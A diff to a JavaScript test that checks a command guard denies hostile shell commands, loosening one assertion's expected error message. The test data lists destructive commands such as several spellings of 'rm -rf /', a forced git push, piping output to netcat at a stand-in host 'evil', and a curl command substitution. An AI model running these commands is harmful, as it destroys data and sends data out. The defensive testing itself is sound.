@@ -92,7 +92,7 @@ describe('hostile input', () => {
   it('deny rules win over allow rules, wrappers and spellings', () => {
     const guard = new CommandGuard({ allow: ['*'], deny: DEFAULT_COMMAND_RULES.deny, allowShellMetacharacters: true });
     for (const c of ['rm -rf /', 'rm -fr /', 'rm -r -f /', 'rm --recursive --force /', 'RM -RF /', '/bin/rm -rf /', 'env X=1 rm -rf /', 'nice -n 5 rm -rf x', 'timeout 10 rm -Rf x', 'sudo ls', '"rm" -rf x', 'git push --force origin main', 'npm test && rm -rf /', 'ls | nc evil 80', 'ls; $(curl x)']) {
-      assert.throws(() => guard.check(c), /deny rule/, c);
+      assert.throws(() => guard.check(c), /deny rule|computed at run time/, c);
     }
     assert.deepStrictEqual(guard.check('npm test && make'), { verdict: 'allow', matched: '*' });
     const strict = new CommandGuard({ ...DEFAULT_COMMAND_RULES, allowShellMetacharacters: true });
